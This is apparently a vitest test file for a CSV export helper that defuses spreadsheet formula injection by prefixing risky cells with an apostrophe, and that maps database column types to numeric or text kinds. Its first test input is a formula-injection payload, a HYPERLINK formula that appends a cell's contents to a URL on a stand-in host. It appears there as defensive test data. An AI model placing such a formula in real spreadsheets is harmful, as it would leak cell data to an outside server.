import { describe, expect, it } from 'vitest';
import { csvKindOf, originalCsvText, safeCsvField } from '../../../core/shared/safe-csv';
import { parseCsv } from '../../workers/generator/csv-parse';

describe('safeCsvField', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?d="&A1,"查看")', `"'=HYPERLINK(""http://x.example/?d=""&A1,""查看"")"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['+86 10 1234', `"'+86 10 1234"`],
    ['-1+1', `"'-1+1"`],
    ['-1.5', `"'-1.5"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ["'=1+1", `"''=1+1"`],
    ["''@x", `"'''@x"`],
    ["'plain", "'plain"],
    ['D0001', 'D0001'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['', '""'],
    [' =1+1', ' =1+1'],
    ['医生=张三', '医生=张三'],
  ])('writes the text %j as the bytes %j', (text, field) => {
    expect(safeCsvField(text)).toBe(field);
  });

  it('writes NULL as an empty field, apart from an empty string', () => {
    expect(safeCsvField(null)).toBe('');
    expect(safeCsvField(undefined)).toBe('');
    expect(safeCsvField('', 'number')).toBe('""');
  });

  it.each(['-1.5', '-3', '0', '12.50', '-2e-05', '1e+20', '.5'])(
    'leaves the number %s of a numeric column a plain number',
    (n) => {
      expect(safeCsvField(n, 'number')).toBe(n);
    },
  );

  it.each(['-1+1', '-inf', '=1', '+5', '-1.5.5', '@1'])(
    'protects %s in a numeric column, which is not a plain number',
    (text) => {
      expect(safeCsvField(text, 'number')).toBe(`"'${text}"`);
    },
  );

  it('gives back the original text of every field after one apostrophe is removed', () => {
    const texts = ['=1', "'=1", "''=1", "'x", 'x', '-1+1', '\t', "'", '-', 'a,"b"', '@'];
    const line = texts.map((t) => safeCsvField(t)).join(',');
    const [parsed] = parseCsv(line);
    expect(parsed?.map(originalCsvText)).toEqual(texts);
  });
});

describe('csvKindOf', () => {
  it.each([
    ['DOUBLE', 'number'],
    ['DECIMAL(18,2)', 'number'],
    ['BIGINT', 'number'],
    ['INTEGER', 'number'],
    ['HUGEINT', 'number'],
    ['FLOAT', 'number'],
    ['VARCHAR', 'text'],
    ['DATE', 'text'],
    ['TIMESTAMP', 'text'],
    ['INTEGER[]', 'text'],
    ['STRUCT(a INTEGER)', 'text'],
  ])('reads %s as %s', (type, kind) => {
    expect(csvKindOf(type)).toBe(kind);
  });
});
